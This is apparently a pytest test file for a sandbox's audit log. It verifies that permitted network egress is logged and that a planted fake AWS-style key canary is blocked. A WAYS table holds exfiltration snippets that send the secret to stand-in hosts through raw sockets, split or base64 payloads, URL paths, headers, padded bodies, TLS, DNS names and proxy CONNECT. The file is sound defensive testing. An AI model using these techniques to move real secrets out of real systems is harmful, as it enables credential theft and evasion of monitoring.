"""What the audit log learns of a run's way out: what was let through, refused, and which canaries were stopped."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from outside import SECRET_VARIABLE, Outside, open_outside

from fumehood import Policy, Sandbox
from fumehood.audit import AuditLog, Query

LONG = 100_000
CANARY = "AKIACANARYKX83ZZ4QW2"
MakePolicy = Callable[..., Policy]


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    with pytest.MonkeyPatch.context() as patch, open_outside() as opened:
        patch.setenv(SECRET_VARIABLE, "not-used-here")
        yield opened


@pytest.fixture
def log(tmp_path: Path) -> AuditLog:
    return AuditLog.at(tmp_path / "log")


@pytest.fixture
def box(make_policy: MakePolicy, outside: Outside, log: AuditLog, tmp_path: Path) -> Iterator[Sandbox]:
    planted = tmp_path / "canary"
    planted.write_text(f"{CANARY}\n")
    policy = make_policy(
        network={"allow": outside.rules()},
        filters={"canaries": [{"name": "billing", "from_file": str(planted)}]},
    )
    with Sandbox(policy, audit=log) as opened:
        yield opened


def told(log: AuditLog, run_id: str, kind: str) -> list[str]:
    return [str(record.data["what"]) for record in log.find(Query(run_id=run_id, kind=kind))]


@pytest.mark.one_container
def test_what_was_let_through_is_recorded_with_its_rule(box: Sandbox, outside: Outside, log: AuditLog) -> None:
    place = f"open.example:{outside.web.port}"
    code = (
        "import urllib.request as u\n"
        "get = u.build_opener(u.ProxyHandler({})).open\n"
        f"for path in ('a?token=x', 'a', 'b'): get('http://{place}/' + path).read()\n"
        "try: get('http://elsewhere.example/')\n"
        "except OSError: pass\n"
    )
    result = box.run(code)
    assert result.ok, result.stderr
    allowed = [record.data for record in log.find(Query(run_id=result.run_id, kind="egress.allowed"))]
    counts = {record["what"]: record["count"] for record in allowed}
    assert counts[f"GET http://{place}/a"] == 2
    assert counts[f"GET http://{place}/b"] == 1
    assert f"connect {place}" in counts
    assert "dns open.example" in counts
    assert all(record["rule"].startswith("network.allow[") for record in allowed if record["attempt"] != "dns")
    assert told(log, result.run_id, "egress.denied") == ["dns elsewhere.example"]


@pytest.mark.one_container
def test_a_run_that_is_ended_and_a_session_are_recorded_too(box: Sandbox, outside: Outside, log: AuditLog) -> None:
    connect = f"import socket; line = socket.create_connection(('raw.example', {outside.raw.port}), 10)\n"
    connect += "line.sendall(b'x'); line.recv(1); print('there', flush=True)\n"
    running = box.start(connect + "import time; time.sleep(60)")
    next(iter(running.stream()))
    ended = running.kill()
    with box.session() as session:
        first, second = session.run(connect), session.run("1")
    place = f"connect raw.example:{outside.raw.port}"
    assert place in told(log, ended.run_id, "egress.allowed")
    assert place in told(log, first.run_id, "egress.allowed")
    assert told(log, second.run_id, "egress.allowed") == []


WAYS = {
    "bytes": "s = raw('raw.example', RAW); s.sendall(CANARY.encode()); print(s.recv(100))",
    "bytes in two pieces": "s = raw('raw.example', RAW)\ns.sendall(CANARY[:9].encode()); print(s.recv(9))\n"
    "s.sendall(CANARY[9:].encode()); print(s.recv(100))",
    "base64": "import base64; s = raw('raw.example', RAW)\n"
    "s.sendall(base64.b64encode(CANARY.encode())); print(s.recv(100))",
    "a path": "print(get(f'http://open.example:{WEB}/{CANARY}'))",
    "a header": "print(get(f'http://open.example:{WEB}/', {'X-Key': CANARY}))",
    "a body": "print(get(f'http://open.example:{WEB}/', {}, b'x' * LONG + CANARY.encode()))",
    "a path inside TLS": "print(get(f'https://reader.example:{TLS}/open/{CANARY}'))",
    "a name": "print(socket.gethostbyname(CANARY.lower() + '.wild.example'))",
    "a name for the proxy": "s = raw('127.0.0.1', 3128)\n"
    "s.sendall(f'CONNECT {CANARY}.wild.example:{RAW} HTTP/1.1\\r\\n\\r\\n'.encode()); print(s.recv(100))\n"
    "s.sendall(b'x'); print(s.recv(1))",
}
TOOLS = """
import socket, urllib.request as u
CANARY = ''.join(PIECES)
raw = lambda host, port: socket.create_connection((host, port), 10)
LONG = 100_000
get = lambda url, headers={}, data=None: u.build_opener(u.ProxyHandler({})).open(u.Request(url, data, headers)).read()
"""


@pytest.mark.one_container
@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
def test_a_canary_does_not_leave_in(way: str, box: Sandbox, outside: Outside, log: AuditLog) -> None:
    ports = f"RAW, WEB, TLS = {outside.raw.port}, {outside.web.port}, {outside.secure.port}\n"
    result = box.run(f"PIECES = {list(CANARY)}\n{ports}{TOOLS}{way}")
    (seen,) = [record.data for record in log.find(Query(run_id=result.run_id, kind="canary.seen"))]
    assert seen["canary"] == "billing"
    assert any("must not leave" in denial.why for denial in result.denials), result.denials
    assert CANARY not in result.stdout + result.stderr
    assert "canary" not in " ".join(map(str, result.denials)).lower()
    assert CANARY not in str([*outside.web.requests, *outside.secure.requests])
    assert all(request["body"] != LONG + len(CANARY) for request in outside.web.requests)
    for file in log.folder.iterdir():
        assert CANARY.encode() not in file.read_bytes().upper()


@pytest.mark.one_container
def test_without_a_canary_the_same_ways_are_open(box: Sandbox, outside: Outside, log: AuditLog) -> None:
    ports = f"RAW, WEB, TLS = {outside.raw.port}, {outside.web.port}, {outside.secure.port}\n"
    code = f"PIECES = 'harmless'\n{ports}{TOOLS}" + "\n".join(WAYS[way] for way in ("bytes", "a path", "a body"))
    result = box.run(code)
    assert result.ok, result.stderr
    assert "b'harmless'" in result.stdout
    assert not list(log.find(Query(kind="canary.seen")))
